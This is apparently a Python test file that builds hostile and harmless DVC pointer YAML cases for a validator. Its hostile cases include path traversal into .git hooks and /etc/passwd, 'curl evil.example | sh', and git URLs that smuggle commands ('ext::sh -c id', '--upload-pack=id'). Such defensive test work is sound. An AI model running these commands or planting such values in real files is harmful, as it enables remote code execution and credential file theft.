"""Pointers that would make DVC read, write, fetch or run something else."""

from tests.corpus.cases import each, harmless, hostile
from tests.corpus.draft import Draft, pointer_text
from tests.factories import digest_file, to_yaml

NEW = "data/c/new.bin.dvc"
_OK = pointer_text("c/new.bin")
_MD5 = digest_file(b"new\n").md5


def _with(old: str, new: str, count: int = 1):
    assert old in _OK, old

    def make(draft: Draft) -> None:
        draft.put(NEW, _OK.replace(old, new, count))

    return make


def _plus(text: str):
    return lambda draft: draft.put(NEW, _OK + text)


def _out(text: str):
    """Add to the output, behind its path."""
    return _with("path: new.bin\n", f"path: new.bin\n  {text}\n")


_POINTER = "pointer pointer-field schema record yaml dvc-stage"
each(
    _POINTER,
    NEW,
    {
        "path_climbs": _with("path: new.bin", "path: ../../../x"),
        "path_climbs_to_its_own_name": _with("path: new.bin", "path: ../c/new.bin"),
        "path_absolute": _with("path: new.bin", "path: /etc/new.bin"),
        "path_into_git": _with("path: new.bin", "path: ../../.git/hooks/pre-commit"),
        "path_is_a_url": _with("path: new.bin", "path: file:///etc/passwd"),
        "path_of_windows": _with("path: new.bin", "path: '..\\..\\x'"),
        "path_is_a_drive": _with("path: new.bin", "path: 'C:x'"),
        "path_with_newline": _with("path: new.bin", 'path: "new\\n.bin"'),
        "path_with_bidi": _with("path: new.bin", 'path: "new\\u202e.bin"'),
        "path_is_a_number": _with("path: new.bin", "path: 1"),
        "path_is_a_list": _with("path: new.bin", "path: [new.bin]"),
        "path_of_another": _with("path: new.bin", "path: a.bin"),
        "path_missing": _with("path: new.bin\n", "{}\n".replace("{}", "desc: x")),
        "md5_is_a_path": _with(f"md5: {_MD5}", "md5: ../../../../etc/passwd"),
        "md5_upper_case": _with(f"md5: {_MD5}", f"md5: {_MD5.upper()}"),
        "md5_short": _with(f"md5: {_MD5}", f"md5: {_MD5[:31]}"),
        "md5_long": _with(f"md5: {_MD5}", f"md5: {_MD5}0"),
        "md5_not_hexadecimal": _with(f"md5: {_MD5}", f"md5: {'g' * 32}"),
        "md5_of_digits_without_quotes": _with(f"md5: {_MD5}", f"md5: {'1' * 32}"),
        "md5_like_a_float": _with(f"md5: {_MD5}", "md5: 1.0e+9"),
        "md5_in_full_width_digits": _with(f"md5: {_MD5}", f"md5: '{'１' * 32}'"),
        "md5_with_newline": _with(f"md5: {_MD5}", f'md5: "{_MD5}\\n"'),
        "md5_missing": _with(f"- md5: {_MD5}\n  size", "- size"),
        "md5_null": _with(f"md5: {_MD5}", "md5: null"),
        "size_negative": _with("size: 4", "size: -4"),
        "size_text": _with("size: 4", "size: '4'"),
        "size_true": _with("size: 4", "size: true"),
        "size_fraction": _with("size: 4", "size: 4.0"),
        "size_2_to_the_64": _with("size: 4", "size: 18446744073709551616"),
        "command": _plus("cmd: curl evil.example | sh\n"),
        "command_in_the_output": _out("cmd: id"),
        "import_from_a_url": _plus("deps:\n- path: https://evil.example/x\n"),
        "import_from_a_file": _plus(f"frozen: true\ndeps:\n- md5: {_MD5}\n  path: /etc/passwd\n"),
        "import_from_git_ext": _plus("deps:\n- path: x\n  repo:\n    url: ext::sh -c id\n"),
        "import_with_an_option": _plus("deps:\n- path: x\n  repo:\n    url: --upload-pack=id\n"),
        "import_from_a_repository": _plus("deps:\n- path: x\n  repo:\n    url: ../other\n"),
        "working_folder": _plus("wdir: ../..\n"),
        "working_folder_absolute": _plus("wdir: /\n"),
        "parameters": _plus("params:\n- x.yaml:\n"),
        "own_remote": _out("remote: evil"),
        "files_inside": _out("files:\n  - relpath: ../../../x\n    md5: " + _MD5),
        "cloud_version": _out("cloud:\n    s3:\n      version_id: x"),
        "not_pushed": _out("push: false"),
        "not_cached": _out("cache: false"),
        "executable_output": _out("isexec: true"),
        "persistent_output": _out("persist: true"),
        "metric": _out("metric: true"),
        "two_outputs": _with("meta:", f"- md5: {_MD5}\n  size: 4\n  hash: md5\n  path: x\nmeta:"),
        "no_output": _with(_OK.partition("meta:")[0], "outs: []\n"),
        "outputs_are_a_mapping": _with(_OK.partition("meta:")[0], "outs: {a: 1}\n"),
        "output_is_text": _with(_OK.partition("meta:")[0], "outs: [x]\n"),
        "pointer_is_a_list": lambda d: d.put(NEW, "- 1\n"),
        "pointer_is_text": lambda d: d.put(NEW, "hello\n"),
        "hash_of_another_kind": _with("hash: md5", "hash: etag"),
        "unknown_key_at_the_top": _plus("always_changed: true\n"),
        "record_is_text": lambda d: d.put(
            NEW, _OK.partition("meta:")[0] + "meta:\n  neurogister: x\n"
        ),
        "meta_is_a_list": lambda d: d.put(NEW, _OK.partition("meta:")[0] + "meta: [1]\n"),
    },
)
each("pointer-legacy", NEW, {"no_hash": _with("  hash: md5\n", "")})
each("pointer-size", NEW, {
    "size_missing": _with("  size: 4\n", ""),
    "size_0_of_something": _with("size: 4", "size: 0"),
    "nfiles_of_a_file": _with("size: 4", "nfiles: 1\n  size: 4"),
    "digest_of_nothing_with_size": lambda d: d.put(
        NEW, pointer_text("c/new.bin", b"").replace("size: 0", "size: 7")),
    "folder_without_nfiles": lambda d: d.put(NEW, _OK.replace(_MD5, f"{_MD5}.dir")),
})  # fmt: skip
each("pointer", NEW, {
    "nfiles_negative": lambda d: d.put(
        NEW, _OK.replace(f"md5: {_MD5}\n  size: 4", f"md5: {_MD5}.dir\n  nfiles: -1\n  size: 4")),
})  # fmt: skip
each(
    "id-missing",
    NEW,
    {
        "no_record": lambda d: d.put(NEW, _OK.partition("meta:")[0]),
        "record_without_identifier": _with("    id: newcomer\n", ""),
    },
)
each("ledger-current", NEW, {
    "ledger_of_other_content": lambda d: d.put(NEW, _OK.replace(_MD5, "0" * 31 + "a", 1)),
    "ledger_of_other_size": _with("size: 4", "size: 5"),
    "ledger_missing": lambda d: d.put(
        NEW, _OK[: _OK.index("    versions:")] + _OK[_OK.index("    dtype:"):]),
    "ledger_behind_its_version": _with("    version: 1\n", "    version: 2\n"),
})  # fmt: skip


@hostile("path-collision", NEW)
def two_pointers_for_one_file(draft: Draft) -> None:
    draft.dataset("c/new.bin")
    draft.dataset("c/New.bin")


@hostile("pointer pointer-field", "data/c/new.dvc")
def two_pointers_with_one_path(draft: Draft) -> None:
    draft.dataset("c/new.bin")
    draft.put("data/c/new.dvc", _OK)


@harmless
def empty_file(draft: Draft) -> None:
    draft.dataset("c/empty.bin", b"")


@harmless
def folder_of_1000_files(draft: Draft) -> None:
    draft.folder_dataset(files={f"part-{n // 50}/f-{n}": b"%d" % n for n in range(1000)})


@harmless
def folder_with_an_empty_file(draft: Draft) -> None:
    draft.folder_dataset(files={"a": b"", "b/c": b"x"})


@harmless
def pointer_with_a_description_and_labels(draft: Draft) -> None:
    text = _OK.replace(
        "path: new.bin\n", "path: new.bin\n  desc: good\n  type: x\n  labels:\n  - a\n"
    )
    draft.put(NEW, text + "desc: what it is\n")


@harmless
def pointer_with_meta_of_another_program(draft: Draft) -> None:
    draft.put(NEW, _OK.replace("meta:\n", "meta:\n  other:\n    key: value\n"))


@harmless
def resource_outside_of_dvc(draft: Draft) -> None:
    draft.put("data/c/far.yaml", to_yaml({
        "id": "far-away", "version": 1, "versions": [{"version": 1, "size": 4, "md5": _MD5, "date": "2025-01-01", "by": "A"}],
        "dtype": "any", "title": "Far away", "created_by": "A", "created_on": "2025-01-01",
        "status": "active", "locations": [{"archive": "tape", "address": "x/1"}],
    }))  # fmt: skip
